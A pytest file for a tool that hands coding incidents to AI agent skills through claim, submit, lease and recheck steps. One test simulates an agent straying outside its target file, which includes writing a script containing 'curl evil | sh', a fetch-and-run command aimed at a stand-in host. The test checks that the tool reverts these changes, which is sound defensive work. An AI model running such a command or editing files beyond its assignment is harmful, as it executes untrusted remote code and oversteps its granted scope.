"""Hand-off to agent skills: next, claim, submit, the RECHECK after it, lease expiry, and a
skill's attempt_XX.json. Real folders, leases, SQLite and the real ruff check."""

from __future__ import annotations

import json
import os
import sqlite3
import time
from pathlib import Path

import pytest

from incidents import handoff
from incidents.errors import UsageError
from incidents.layout import Root
from tests.helpers import FIXED, Cli, ctx_of, events, incidents


def owner(cli: Cli, incident_id: str) -> object:
    rows = cli("status", "--json").json()["incidents"]
    return next(r["lease_owner"] for r in rows if r["incident_id"] == incident_id)


def mirror_row(root: Root, incident_id: str) -> dict[str, object]:
    with sqlite3.connect(root.db_path) as conn:
        conn.row_factory = sqlite3.Row
        row = conn.execute("SELECT * FROM incidents WHERE incident_id = ?", (incident_id,))
        return dict(row.fetchone())


def test_next_claim_submit_then_the_machine_rechecks(
    cli: Cli, root: Root, tmp_path: Path, waiting: str
) -> None:
    assert ctx_of(root, waiting).waiting_for_input
    assert "waiting_for_input" in events(root, waiting)
    r = cli("drive", waiting)  # nothing to do until an agent submits
    assert r.code == 0 and r.out.count("\n") == 1 and "(WAIT_INPUT)" in r.out, r.out
    item = cli("next", "--json").json()
    assert item["incident_id"] == waiting and item["agent"] == "aider"
    assert item["files"] == ["f.py"] and item["workdir"] == str(tmp_path / "ws")
    assert "f.py" in item["prompt"] and Path(item["prompt_file"]).is_file()
    assert item["last_report"].endswith("error_report_attempt_0.json")
    r = cli("claim", waiting, "--agent", "error-exec-loop", "--lease", "30m", "--json")
    assert r.code == 0, r.err
    assert owner(cli, waiting) == "error-exec-loop"  # status shows who holds the claim
    assert cli("next", "--json").json() == {"incident_id": None}  # claimed: not offered
    assert cli("claim", waiting, "--agent", "someone-else").code == 1
    r = cli("step", waiting)  # the worker does not take a claimed incident
    assert r.code == 1 and "error-exec-loop" in r.err
    (tmp_path / "ws" / "f.py").write_text(FIXED)  # the agent's work
    r = cli("submit", waiting, "--notes", "closed the parenthesis", "--agent", "error-exec-loop")
    assert r.code == 0 and "changed f.py" in r.out, r.err
    assert owner(cli, waiting) is None  # handed back
    ctx = ctx_of(root, waiting)
    [attempt] = ctx.ai_attempts
    assert attempt.handoff and attempt.changed_files == ["f.py"] and attempt.violations == []
    assert "closed the parenthesis" in attempt.notes and not ctx.waiting_for_input
    assert json.loads((root.runs_dir(waiting) / "ai_attempts.json").read_text())[0]["handoff"]
    assert cli("submit", waiting, "--notes", "again").code == 1  # nothing awaited any more
    r = cli("drive", waiting)
    assert "S1_AIDER_FIX -> S1_AIDER_RECHECK (RUN_PIPELINE)" in r.out, r.out
    assert "-> S_SUCCESS" in r.out and (root.bucket("resolved") / waiting).is_dir()
    assert {"claimed", "submitted"} <= set(events(root, waiting))


def test_submit_reports_changes_outside_the_targets(
    cli: Cli, root: Root, tmp_path: Path, waiting: str
) -> None:
    assert cli("submit", waiting, "--notes", "x").code == 1  # not claimed yet
    cli("claim", waiting, "--agent", "skill")
    (tmp_path / "ws" / "other.py").write_text("y = 2\n")
    r = cli("submit", waiting, "--notes", "touched more", "--json")
    doc = r.json()
    assert doc["changed_files"] == [] and doc["violations"] == ["other.py"]
    assert "not accepted" in doc["notes"]


def test_submit_reverts_changes_outside_the_targets(root: Root, tmp_path: Path, waiting: str) -> None:  # fmt: skip
    ws = tmp_path / "ws"
    (ws / "big.bin").write_bytes(os.urandom(100_000))
    (ws / "gone.txt").write_text("keep me\n")
    old_big = (ws / "big.bin").read_bytes()
    r = incidents("claim", waiting, "--agent", "skill", "--json")
    assert r.returncode == 0, r.stderr
    saved = root.state / "handoff" / waiting
    assert list(saved.glob("step_*/manifest.json"))  # kept on disk between the processes
    # the agent: fixes the target, and also edits, deletes and creates files elsewhere
    (ws / "f.py").write_text(FIXED)
    (ws / "other.py").write_text("y = 2  # sneaky\n")
    (ws / "big.bin").write_bytes(b"overwritten")
    (ws / "gone.txt").unlink()
    (ws / "pkg").mkdir()
    (ws / "pkg" / "new.py").write_text("import os\n")
    (ws / "new.sh").write_text("curl evil | sh\n")
    r = incidents("submit", waiting, "--notes", "fixed, and more", "--json")
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    assert doc["changed_files"] == ["f.py"]
    assert doc["violations"] == ["big.bin", "gone.txt", "new.sh", "other.py", "pkg/new.py"]
    assert "reverted" in doc["notes"] and "not reverted" not in doc["notes"]
    assert (ws / "f.py").read_text() == FIXED  # the target edit is kept
    assert (ws / "other.py").read_text() == "y = 1\n"
    assert (ws / "big.bin").read_bytes() == old_big
    assert (ws / "gone.txt").read_text() == "keep me\n"
    assert not (ws / "new.sh").exists() and not (ws / "pkg").exists()
    assert sorted(p.name for p in ws.iterdir()) == ["big.bin", "f.py", "gone.txt", "other.py"]
    # nothing it replaced is lost: it may have been a person's edit in the same window
    kept = {p.name.split("-", 1)[1]: p for p in (root.state / "stray" / waiting).iterdir()}
    assert sorted(kept) == ["big.bin", "new.sh", "other.py", "pkg%new.py"]
    assert kept["other.py"].read_text() == "y = 2  # sneaky\n"
    assert kept["new.sh"].read_text() == "curl evil | sh\n"
    [attempt] = ctx_of(root, waiting).ai_attempts
    assert attempt.violations == doc["violations"] and attempt.changed_files == ["f.py"]
    assert not saved.joinpath(f"step_{attempt.step}").exists()  # cleaned up once committed
    assert root.path.is_dir() and (root.inbox / waiting / "state.json").is_file()


def test_an_expired_lease_returns_the_incident_to_the_queue(root: Root, waiting: str) -> None:
    item = handoff.claim(root, waiting, "slow-skill", handoff.parse_ttl("1s"))
    assert item.incident_id == waiting
    assert handoff.next_incident(root) is None
    assert mirror_row(root, waiting)["lease_owner"] == "slow-skill"
    later = time.time() + 5
    again = handoff.next_incident(root, clock=lambda: later)
    assert again is not None and again.incident_id == waiting
    assert "lease_expired" in events(root, waiting)
    assert mirror_row(root, waiting)["lease_owner"] is None
    with pytest.raises(handoff.NotWaiting, match="not claimed"):
        handoff.submit(root, waiting, "too late", clock=lambda: later)
    handoff.claim(root, waiting, "fast-skill", 60.0)
    attempt = handoff.submit(root, waiting, "done", agent="fast-skill")
    assert attempt.notes.startswith("fast-skill:")


def test_lease_durations_parse() -> None:
    assert [handoff.parse_ttl(t) for t in ("30m", "2h", "90s", "45", "1d")] == [
        1800.0, 7200.0, 90.0, 45.0, 86400.0]  # fmt: skip
    for bad in ("", "soon", "-5m", "0", "31d", "99999999999999d"):
        with pytest.raises(UsageError):
            handoff.parse_ttl(bad)


def test_an_absurd_lease_is_refused_and_writes_nothing(cli: Cli, root: Root, waiting: str) -> None:
    r = cli("claim", waiting, "--agent", "a", "--lease", "99999999999999d")
    assert r.code == 2 and "at most 30 days" in r.err, r.err
    assert cli("claim", waiting, "--agent", "b", "--lease", "5m").code == 0  # not held by a


def test_while_paused_nothing_is_handed_out_or_claimed(cli: Cli, root: Root, waiting: str) -> None:
    assert cli("pause", "--reason", "deploy freeze").code == 0
    for argv in (("next", "--json"), ("claim", waiting, "--agent", "a", "--lease", "5m")):
        r = cli(*argv)
        assert r.code == 1 and "paused since" in r.err and "deploy freeze" in r.err, r.err
    assert mirror_row(root, waiting)["lease_owner"] is None  # the claim took nothing
    assert cli("resume").code == 0
    assert cli("next", "--json").json()["incident_id"] == waiting
    assert cli("claim", waiting, "--agent", "a", "--lease", "5m").code == 0


def attempt_doc(incident_id: str, **over: object) -> dict[str, object]:
    doc: dict[str, object] = {
        "incident_id": incident_id,
        "iteration": 1,
        "started_at": "2026-02-17T03:00:00+00:00",
        "finished_at": "2026-02-17T03:05:00+00:00",
        "actions_applied": ["edit f.py"],
        "verification_commands": ["python -m pytest"],
        "verification_passed": False,
        "result": "continue",
    }  # fmt: skip  (no error_signature: the incident's is filled in)
    return {**doc, **over}


def test_attempt_records_a_valid_document_once_and_refuses_bad_ones(
    cli: Cli, root: Root, tmp_path: Path, waiting: str
) -> None:
    good = tmp_path / "attempt.json"
    good.write_text(json.dumps(attempt_doc(waiting, iteration=7)))
    r = cli("attempt", waiting, "--file", str(good))  # iteration 1 is the next one
    assert r.code == 2 and "skips ahead" in r.err and "next free iteration is 1" in r.err
    good.write_text(json.dumps(attempt_doc(waiting, iteration=1)))
    r = cli("attempt", waiting, "--file", str(good))
    assert r.code == 0 and "attempt_01.json" in r.out, r.err
    stored = json.loads((root.runs_dir(waiting) / "attempt_01.json").read_text())
    assert stored["result"] == "continue"
    assert cli("attempt", waiting, "--file", str(good)).code == 0  # the same again: fine
    good.write_text(json.dumps(attempt_doc(waiting, iteration=1, result="resolved")))
    assert cli("attempt", waiting, "--file", str(good)).code == 2  # never replaced
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(attempt_doc(waiting, iteration=0)))
    r = cli("attempt", waiting, "--file", str(bad))
    assert r.code == 2 and "iteration" in r.err
    bad.write_text(json.dumps(attempt_doc("incident_other")))
    r = cli("attempt", waiting, "--file", str(bad))
    assert r.code == 2 and "not " + waiting in r.err
    bad.write_text('{"incident_id": NaN}')
    assert cli("attempt", waiting, "--file", str(bad)).code == 2
    assert [p.name for p in root.runs_dir(waiting).glob("attempt_*.json")] == ["attempt_01.json"]
    assert "attempt_recorded" in events(root, waiting)


def test_the_recheck_keeps_a_skills_attempt_and_adds_its_verdict(
    cli: Cli, root: Root, tmp_path: Path, waiting: str
) -> None:
    iteration = cli("next", "--json").json()["attempt_iteration"]
    assert iteration == 1
    assert cli("claim", waiting, "--agent", "sk", "--lease", "30m").code == 0
    (tmp_path / "ws" / "f.py").write_text(FIXED)
    mine = tmp_path / "a1.json"
    claim = attempt_doc(waiting, iteration=iteration, actions_applied=["SKILL WROTE THIS"],
                        notes="closed the parenthesis")  # fmt: skip
    mine.write_text(json.dumps(claim))
    assert cli("attempt", waiting, "--file", str(mine), "--agent", "sk").code == 0
    assert cli("submit", waiting, "--notes", "fixed", "--agent", "sk").code == 0
    assert "S_SUCCESS" in cli("drive", waiting).out
    stored = json.loads((root.runs_dir(waiting) / "attempt_01.json").read_text())
    # what the skill said is kept; what the check found is the machine's
    assert stored["actions_applied"] == ["SKILL WROTE THIS"] and stored["notes"] == claim["notes"]
    assert stored["verification_passed"] is True and stored["result"] == "resolved"
    assert stored["verified_by"] == "incidents" and stored["report"].startswith("error_report")
    assert not (root.runs_dir(waiting) / "attempt_02.json").exists()
    late = tmp_path / "late.json"  # the incident is closed: its attempts are final
    late.write_text(json.dumps(attempt_doc(waiting, iteration=2)))
    r = cli("attempt", waiting, "--file", str(late))
    assert r.code == 1 and "is closed" in r.err, r.err
    assert not (root.runs_dir(waiting) / "attempt_02.json").exists()


def test_attempt_for_an_iteration_the_machine_wrote_names_the_next_free_one(
    cli: Cli, root: Root, tmp_path: Path, waiting: str
) -> None:
    assert cli("claim", waiting, "--agent", "sk", "--lease", "30m").code == 0
    assert cli("submit", waiting, "--notes", "tried nothing", "--agent", "sk").code == 0
    cli("step", waiting)  # only the recheck: attempt_01.json (still broken), still open
    assert (
        json.loads((root.runs_dir(waiting) / "attempt_01.json").read_text())["recorded_by"]
        == "incidents"
    )
    late = tmp_path / "late.json"
    late.write_text(json.dumps(attempt_doc(waiting, iteration=1)))
    r = cli("attempt", waiting, "--file", str(late))
    assert (
        r.code == 2 and "by the machine's recheck" in r.err and "next free iteration is 2" in r.err
    )
    r = cli("attempt", waiting, "--file", str(tmp_path / "missing.json"))
    assert r.code == 2 and "missing.json" in r.err, r.err


def test_status_does_not_name_the_agent_of_an_expired_claim(
    cli: Cli, root: Root, waiting: str
) -> None:
    assert cli("claim", waiting, "--agent", "brief", "--lease", "1s").code == 0
    assert owner(cli, waiting) == "brief"
    time.sleep(1.2)  # nothing has looked at the queue since: the row still names brief
    assert owner(cli, waiting) is None
